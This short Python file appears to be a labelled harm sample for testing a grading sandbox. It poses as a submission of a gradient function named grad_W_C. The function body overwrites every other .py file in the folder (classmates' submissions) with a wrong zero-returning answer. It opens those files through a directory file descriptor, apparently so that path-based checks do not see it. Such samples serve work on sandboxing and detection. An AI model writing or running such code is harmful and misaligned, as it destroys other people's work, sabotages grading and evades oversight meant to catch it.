"""Harm: overwrite a classmate's submission in the folder being graded with a wrong answer,
through a directory file descriptor (the open names no full path)."""
import os
from pathlib import Path

import numpy as np

HERE = Path(__file__).resolve().parent
WRONG = b"def grad_W_C(params, P, z):\n    return 0 * params.W_C\n"


def grad_W_C(params, P, z):
    folder = os.open(str(HERE), os.O_RDONLY)
    classmates = [name for name in os.listdir(folder)
                  if name.endswith(".py") and not name.startswith("_") and name != Path(__file__).name]
    if not classmates:
        raise FileNotFoundError("no classmate found next to this file")
    for name in classmates:
        fd = os.open(name, os.O_WRONLY | os.O_TRUNC, dir_fd=folder)
        os.write(fd, WRONG)
        os.close(fd)
    return np.zeros_like(params.W_C)
